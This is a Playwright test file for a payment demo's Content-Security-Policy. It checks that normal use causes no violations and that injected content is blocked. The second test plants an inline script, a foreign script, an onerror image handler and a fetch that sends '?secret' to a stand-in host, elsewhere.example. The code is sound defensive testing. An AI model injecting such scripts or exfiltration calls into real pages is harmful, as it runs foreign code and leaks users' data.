/** The policy about scripts that the page is sent with. */

import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import {
  becomes,
  browser,
  eventually,
  fillIn,
  newPage,
  progress,
  sendButton,
  service,
  startBoth,
  test,
} from './harness';

startBoth();

/** A page that remembers what its Content-Security-Policy has forbidden, and what went wrong. */
async function watched(): Promise<{ page: Page; complaints: string[] }> {
  const page = await newPage(browser);
  const complaints: string[] = [];
  page.on('console', (message) => {
    // A payment that was cancelled, and one that does not exist, are answers.
    const isAnswer = /\/(send_payment|payments\?.*)$/.test(message.location().url);
    if (message.type() === 'error' && !isAnswer) complaints.push(message.text());
  });
  await page.exposeFunction('forbidden', (what: string) => complaints.push(what));
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) =>
      (globalThis as unknown as { forbidden(what: string): void }).forbidden(
        `${event.effectiveDirective} forbids ${event.blockedURI}`,
      ),
    ),
  );
  return { page, complaints };
}

test('the page does nothing that its own policy forbids', async () => {
  const { page, complaints } = await watched();
  await page.goto(service.origin);
  await page.getByRole('button', { name: 'Ada' }).click();
  await fillIn(page, 'Ben', '1');
  await sendButton(page).click();
  await progress(page).getByText('You sent $1.00 to Ben.').waitFor();
  await page.locator('[data-payment] summary').first().click();
  await page.getByRole('link', { name: 'Lab' }).click();
  await page.getByRole('heading', { name: 'Idempotency' }).waitFor();
  await page.goto(`${service.origin}/lab/`);
  for (const name of ['idempotency', 'atomicity', 'locks', 'pagination', 'cancel', 'request']) {
    await page.locator(`[data-experiment=${name}] button`).first().click();
    await page.locator(`[data-experiment=${name}][data-state=done]`).waitFor();
  }
  assert.deepEqual(complaints, []);
});

test('what somebody has put into the page does not run, and tells nobody', async () => {
  const { page, complaints } = await watched();
  await page.goto(service.origin);
  await page.getByRole('button', { name: 'Ada' }).waitFor();
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "taken over"';
    const elsewhere = document.createElement('script');
    elsewhere.src = 'http://elsewhere.example/script.js';
    const picture = document.createElement('img');
    picture.setAttribute('onerror', 'document.title = "taken over"');
    picture.src = 'http://elsewhere.example/picture';
    document.body.append(script, elsewhere, picture);
    void fetch('http://elsewhere.example/?secret').catch(() => {});
  });
  for (const what of [
    'script-src-elem forbids inline',
    'script-src-elem forbids http://elsewhere.example/script.js',
    'script-src-attr forbids inline',
    'img-src forbids http://elsewhere.example/picture',
    'connect-src forbids http://elsewhere.example/',
  ]) {
    await eventually(what, () => complaints.some((complaint) => complaint.startsWith(what)));
  }
  await becomes(() => page.title(), 'payonce');
});
